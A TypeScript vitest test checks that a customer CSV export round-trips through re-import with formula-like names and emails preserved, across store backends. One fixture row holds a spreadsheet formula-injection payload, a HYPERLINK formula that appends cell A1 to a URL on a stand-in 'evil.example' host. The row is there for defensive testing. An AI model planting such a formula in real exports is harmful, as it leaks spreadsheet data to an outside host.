import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { createTestStore, describeEachStore } from '../../test/helpers/stores.js';
import { fixedClock } from '../core/clock.js';
import { toCsv } from '../core/csv.js';
import type { Store } from '../db/client.js';
import { importFile } from '../ingest/import-file.service.js';
import { customerCsvCells, customerCsvColumns, customerCsvHeader, machineCsvOptions } from './customer-csv.js';
import { listCustomers } from './list-customers.js';

// Values a spreadsheet would run as formulas, which the spreadsheet form guards with a ': the
// re-import form must give them back exactly, or a re-import saves "'-2+3@example.lv".
const directory = mkdtempSync(join(tmpdir(), 'clientele-reimport-'));
afterAll(() => rmSync(directory, { recursive: true, force: true }));
const base = { actor: 'test', clock: fixedClock('2026-12-06T00:00:00Z'), rejectsPath: null };
const fileOf = (name: string, text: string) => {
  const path = join(directory, name);
  writeFileSync(path, text);
  return path;
};
const money = { currency: 'EUR', minorPerMajor: 100 };

const source = [
  'customer_id,name,email,phone,city,country',
  'lv1,Ādolfs Čakste-Ērgle,adolfs@example.lv,,Rīga,LV',
  'lv4,"=HYPERLINK(""http://evil.example/?x=""&A1;""Klikšķini"")",evil@example.lv,,Rīga,LV',
  'lv5,@SUM(1+1),sum@example.lv,+37120000000,Rīga,LV',
  'lv6,Šarlote Ūdre-Žagata,-2+3@example.lv,,Rīga,LV',
  'lv7,+Māris Zeltiņš,maris@example.lv,,Rīga,LV',
  'lv8,-Inese,+tag@example.lv,,Rīga,LV',
].join('\n');

async function namesAndEmails(store: Store) {
  const page = await listCustomers(store.db, { limit: 100 });
  return page.items.map(({ name, email, phone }) => ({ name, email, phone })).sort((a, b) => (a.email ?? '').localeCompare(b.email ?? ''));
}

describeEachStore('the re-import form of the customer export', (context) => {
  let fresh: Awaited<ReturnType<typeof createTestStore>>;
  beforeAll(async () => {
    fresh = await createTestStore(context.kind);
  }, 240_000);
  afterAll(async () => {
    await fresh?.dispose();
  });

  it('imports into a new store as the same names and emails, formula-like ones included', async () => {
    expect(await importFile(context.store.db, { ...base, entity: 'customers', file: fileOf(`source-${context.kind}.csv`, source) })).toMatchObject({ read: 6, rejected: 0 });
    const exported = await listCustomers(context.store.db, { limit: 100 });
    const file = toCsv([customerCsvHeader(customerCsvColumns, money), ...exported.items.map((row) => customerCsvCells(row, customerCsvColumns, money))], machineCsvOptions);
    expect(file).toContain(',-2+3@example.lv,');

    // the export carries created_at as the store wrote it, today: the new store imports after that
    const later = fixedClock(new Date(Date.now() + 86_400_000).toISOString());
    expect(await importFile(fresh.store.db, { ...base, clock: later, entity: 'customers', file: fileOf(`reimport-${context.kind}.csv`, file) })).toMatchObject({ read: 6, rejected: 0 });
    const before = await namesAndEmails(context.store);
    expect(before).toContainEqual({ name: '+Māris Zeltiņš', email: 'maris@example.lv', phone: null });
    expect(await namesAndEmails(fresh.store)).toEqual(before);
  });
});
